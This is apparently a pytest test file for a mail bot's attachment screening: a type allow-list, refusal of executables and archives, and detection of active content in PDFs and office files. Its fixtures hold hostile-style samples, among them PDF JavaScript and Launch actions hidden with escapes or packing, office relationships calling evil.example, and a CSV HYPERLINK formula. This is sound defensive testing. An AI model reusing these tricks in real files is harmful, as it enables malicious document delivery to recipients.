"""Documents by allow-list (issue 9 §5): what may pass from one party to the other, judged on the
name and the first bytes, office files read for macros, archives refused, notices bounded."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest

from mailbot.inbound import documents
from mailbot.inbound.parse import Attachment, parse

PDF = b"%PDF-1.7\n1 0 obj<<>>endobj\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 40
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 40
EXE = b"MZ\x90\x00\x03" + b"\x00" * 60


def office(*names: str) -> bytes:
    """A real ZIP container with the given entries, as an office program writes them."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for name in names:
            archive.writestr(name, "<x/>")
    return buffer.getvalue()


DOCX = office("word/document.xml", "word/styles.xml")
XLSX = office("xl/workbook.xml", "xl/worksheets/sheet1.xml",
              "xl/printerSettings/printerSettings1.bin")  # Excel writes these: inert
ODT = office("content.xml", "styles.xml", "META-INF/manifest.xml")


@pytest.fixture
def store(tmp_path):
    saved = {}

    def save(data: bytes) -> str:
        key = f"sha{len(saved)}"
        saved[key] = data
        return key
    return save


def judged(store, *attachments: Attachment):
    kept, refused = documents.screen(list(attachments), store)
    return [(d.name, d.content_type) for d in kept], [(r.name, r.why) for r in refused]


@pytest.mark.parametrize("name, declared, data, kept_as", [
    ("bon.pdf", "application/octet-stream", PDF, "application/pdf"),
    ("foto.PNG", "image/png", PNG, "image/png"),
    ("IMG_0042.jpeg", "image/jpeg", JPEG, "image/jpeg"),
    ("factuur.docx", "application/octet-stream", DOCX, documents.KINDS["docx"][0]),
    ("lijst.xlsx", "application/vnd.ms-excel", XLSX, documents.KINDS["xlsx"][0]),
    ("brief.odt", "application/vnd.oasis.opendocument.text", ODT, documents.KINDS["odt"][0]),
    ("notitie.txt", "text/html", "Het pakket kwam niet.".encode(), "text/plain"),
    ("bestelling.csv", "text/csv", b"order;bedrag\nNL-1;49,95\n", "text/csv"),
])
def test_documents_of_the_allowed_kinds_are_kept_with_the_type_of_their_kind(
        store, name, declared, data, kept_as):
    assert judged(store, Attachment(name, declared, data)) == ([(name, kept_as)], [])


@pytest.mark.parametrize("name, declared, data", [
    # Extensions a blocklist missed: help files, Excel add-ins, shortcuts, disk images, OneNote.
    ("handleiding.chm", "application/vnd.ms-htmlhelp", b"ITSF" + b"\x00" * 20),
    ("rapport.xll", "application/octet-stream", EXE),
    ("track.url", "application/internet-shortcut", b"[InternetShortcut]\nURL=file://x\n"),
    ("schijf.vhd", "application/octet-stream", b"conectix" + b"\x00" * 20),
    ("notities.one", "application/onenote", b"\xe4\x52\x5c\x7b" + b"\x00" * 20),
    ("factuur.pdf.exe", "application/pdf", EXE),
    ("pagina.html", "text/html", b"<script>steal()</script>"),
    ("logo.svg", "image/svg+xml", b"<svg onload='x()'/>"),
    ("oud.doc", "application/msword", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 20),
    ("macro.docm", "application/vnd.ms-word.document.macroEnabled.12", DOCX),
    # Names that lie about what the file is.
    ("factuur.pdf", "application/pdf", EXE),
    ("foto.jpg", "image/jpeg", b"<html><script>x()</script>"),
    ("brief.txt", "text/plain", EXE),
    ("factuur.docx", "application/octet-stream", PDF),
    # An HTML page named .pdf that carries the marker in a comment (issue 16 §5).
    ("factuur.pdf", "application/pdf", b"<html><!-- %PDF-1.4 --><script>x()</script></html>"),
    # Archives, whatever they hold.
    ("bewijs.zip", "application/zip", office("bon.pdf")),
    ("bewijs.7z", "application/x-7z-compressed", b"7z\xbc\xaf\x27\x1c" + b"\x00" * 20),
    ("bewijs.rar", "application/vnd.rar", b"Rar!\x1a\x07\x01\x00"),
    ("document", "application/octet-stream", EXE),  # nameless, of no allowed type
])
def test_everything_else_is_refused_for_its_type(store, name, declared, data):
    kept, refused = judged(store, Attachment(name, declared, data))
    assert kept == [] and refused == [(documents.safe_name(name), "type")]


def pdf(*objects: bytes, packed: bytes = b"") -> bytes:
    """A PDF with the given objects, and ``packed`` dictionaries in a compressed object stream
    (ISO 32000-1 §7.5.7)."""
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%s\nendobj\n" % (n + 1, o)
                                     for n, o in enumerate(objects))
    if packed:
        stream = zlib.compress(packed)
        body += (b"9 0 obj\n<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>>\n"
                 b"stream\n%s\nendstream\nendobj\n" % (len(stream), stream))
    return body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


CATALOG = b"<</Type /Catalog /Pages 2 0 R>>"
RELS = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">{}</Relationships>')
REL = '<Relationship Id="rId{n}" Type="http://schemas.openxmlformats.org/officeDocument/2006/' \
      'relationships/{kind}" Target="{target}"{mode}/>'


def ooxml(*entries: tuple[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        if "[Content_Types].xml" not in dict(entries):
            archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        for name, text in entries:
            archive.writestr(name, text)
    return buffer.getvalue()


def rels(*relationships: tuple[str, str, bool]) -> str:
    return RELS.format("".join(
        REL.format(n=n, kind=kind, target=target, mode=' TargetMode="External"' if external else "")
        for n, (kind, target, external) in enumerate(relationships)))


ACTIVE = [
    # PDF actions that run or open something, also written with #xx escapes or packed away.
    ("bon.pdf", pdf(b"<</Type /Catalog /OpenAction 3 0 R>>",
                    b"<</S /JavaScript /JS (app.alert(1))>>")),
    ("bon.pdf", pdf(CATALOG, b"<</S /Launch /F (cmd.exe)>>")),
    ("bon.pdf", pdf(CATALOG, b"<</S /J#61vaScript /J#53 (x)>>")),
    ("bon.pdf", pdf(CATALOG, packed=b"3 0 <</S /JavaScript /JS (app.alert(1))>>")),
    ("bon.pdf", pdf(CATALOG, b"<</Type /Filespec /EF <</F 4 0 R>> /Type /EmbeddedFile>>")),
    ("bon.pdf", pdf(CATALOG, b"<</Type /Obj#53tm /N 1>>\nstream\nx\nendstream")),  # hidden packing
    ("bon.pdf", pdf(CATALOG, packed=b"3 0 <</S /Laun#63h /F (x.exe)>>")),
    # CSV formulas beyond what is rewritten.
    ("groot.csv", b"datum;bedrag\n" + b"2026-11-02;=1+1\n" * 70_000),
    # A remote template, an external OLE object, a linked image that reports the opening.
    ("brief.docx", ooxml(("word/_rels/settings.xml.rels", rels(
        ("attachedTemplate", "http://evil.example/t.dotm", True))))),
    ("brief.docx", ooxml(("word/_rels/document.xml.rels", rels(
        ("oleObject", "\\\\evil.example\\share\\x.doc", True))))),
    ("brief.docx", ooxml(("word/_rels/document.xml.rels", rels(
        ("image", "http://evil.example/pixel.png", True))))),
    ("macro.docx", ooxml(("[Content_Types].xml", '<Types><Override ContentType="application/'
                          'vnd.ms-word.document.macroEnabled.main+xml"/></Types>'))),
    # Excel 4.0 macro sheets; shortcuts, HTML applications and screen savers carried inside.
    ("lijst.xlsx", office("xl/workbook.xml", "xl/macrosheets/sheet1.xml")),
    ("brief.docx", office("word/document.xml", "word/media/factuur.lnk")),
    ("brief.docx", office("word/document.xml", "word/media/run.hta")),
    ("brief.pptx", office("ppt/presentation.xml", "ppt/media/slides.scr")),
    # Office files that carry code or foreign objects (issue 9 §5).
    ("factuur.docx", office("word/document.xml", "word/vbaProject.bin")),
    ("lijst.xlsx", office("xl/workbook.xml", "xl/activeX/activeX1.bin")),
    ("brief.docx", office("word/document.xml", "word/embeddings/oleObject1.bin")),
    ("brief.odt", office("content.xml", "Basic/Standard/Module1.xml")),
    ("brief.docx", office("word/document.xml", "word/setup.exe")),
]


@pytest.mark.parametrize("name, data", ACTIVE)
def test_documents_that_would_run_or_open_something_are_refused_for_it(store, name, data):
    kept, refused = judged(store, Attachment(name, "application/octet-stream", data))
    assert kept == [] and refused == [(name, "active")]


@pytest.mark.parametrize("name, data", [
    ("bon.pdf", pdf(b"<</Type /Catalog /OpenAction [3 0 R /Fit]>>",  # which page: ordinary
                    b"<</Type /Annot /A <</S /URI /URI (https://shop.example/)>> >>")),
    ("bon.pdf", pdf(CATALOG, packed=b"3 0 <</Type /Page /Parent 2 0 R>>")),
    ("bon.pdf", pdf(CATALOG, b"<</Type /Font /BaseFont /Times#20New#20Roman>>")),
    ("brief.docx", ooxml(("word/_rels/document.xml.rels", rels(
        ("hyperlink", "https://shop.example/retour", True), ("styles", "styles.xml", False))))),
])
def test_links_and_ordinary_structure_are_no_active_content(store, name, data):
    kept, refused = judged(store, Attachment(name, "application/octet-stream", data))
    assert [n for n, _ in kept] == [name] and refused == []


def test_csv_formula_cells_are_neutralised_numbers_kept(tmp_path):
    saved = {}
    data = ('datum;omschrijving;bedrag\r\n2026-11-02;=HYPERLINK("http://evil.example","klik");'
            '-12,50\r\n2026-11-03;@SUM(A1);+31 6 1234\r\n2026-11-04;"-2+3 korting";49,95\r\n')
    kept, refused = documents.screen([Attachment("afschrift.csv", "text/csv", data.encode())],
                                     lambda b: saved.setdefault("k", b) and "k")
    assert refused == [] and kept[0].size == len(saved["k"])
    text = saved["k"].decode()
    assert ';"\'=HYPERLINK(""http://evil.example"",""klik"")";' in text
    assert ";'@SUM(A1);+31 6 1234\r\n" in text and ";-12,50\r\n" in text  # numbers stay
    assert "'-2+3 korting" in text
    # A CSV without formulas is kept byte for byte.
    plain = b"order,bedrag\nNL-1,-49.95\n"
    documents.screen([Attachment("b.csv", "text/csv", plain)], lambda b: saved.update(p=b) or "p")
    assert saved["p"] == plain


@pytest.mark.parametrize("locale, words", [
    ("nl", "het bestand bevat macro's"), ("fr", "le fichier contient des macros"),
    ("it", "il file contiene macro"),
])
def test_the_refusal_reason_is_in_the_senders_language(locale, words):
    from zoneinfo import ZoneInfo

    from mailbot.outbound.render import Renderer
    env = Renderer(ZoneInfo("Europe/Amsterdam"))._envs[locale, "text"]
    line = env.from_string('{% import "_labels.j2" as w %}{{ w.refusal("active", limits) }}')
    assert line.render(limits={"max_mb": 5, "max_documents": 10}).startswith(words)


def test_an_office_file_claiming_a_million_entries_is_refused_without_reading_them(store):
    # The end-of-central-directory record alone says how many entries follow (APPNOTE 4.3.16).
    eocd = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 60000, 60000, 0, 0, 0)
    crafted = b"PK\x03\x04" + b"\x00" * 100 + eocd
    assert judged(store, Attachment("x.docx", "application/octet-stream", crafted))[1] == [
        ("x.docx", "type")]
    assert documents._zip_entries(DOCX) == 3


def test_a_nameless_photo_is_named_for_its_type(store):
    assert judged(store, Attachment("document", "image/jpeg", JPEG)) == (
        [("document.jpg", "image/jpeg")], [])


def test_size_and_count_limits_still_apply(store):
    big = Attachment("groot.pdf", "application/pdf", PDF + b"0" * documents.MAX_DOCUMENT_BYTES)
    many = [Attachment(f"d{i}.pdf", "application/pdf", PDF) for i in range(12)]
    kept, refused = judged(store, big, *many)
    assert len(kept) == documents.MAX_DOCUMENTS
    assert refused == [("groot.pdf", "size"), ("d10.pdf", "count"), ("d11.pdf", "count")]


def test_a_refusal_notice_names_twenty_files_and_counts_the_rest(store):
    attachments = [Attachment(f"p{i}.exe", "application/octet-stream", EXE) for i in range(30)]
    kept, refused = documents.screen(attachments, store, unread=99_960)
    assert kept == ()
    assert [r.name for r in refused[:documents.MAX_LISTED]] == [f"p{i}.exe" for i in range(20)]
    assert refused[documents.MAX_LISTED:] == [documents.Refusal("… (+99970)", "count")]


def test_a_hundred_thousand_parts_give_a_short_notice(store):
    part = b"--b\r\nContent-Type: application/octet-stream; name=f%d.exe\r\n\r\nMZ\r\n"
    raw = (b"From: jan@buyer.example\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
           + b"".join(part % n for n in range(100_000)) + b"--b--\r\n")
    mail = parse(raw)
    kept, refused = documents.screen(mail.attachments, store, mail.parts_skipped)
    assert len(refused) == documents.MAX_LISTED + 1
    assert refused[-1].name == f"… (+{100_000 - documents.MAX_LISTED})"
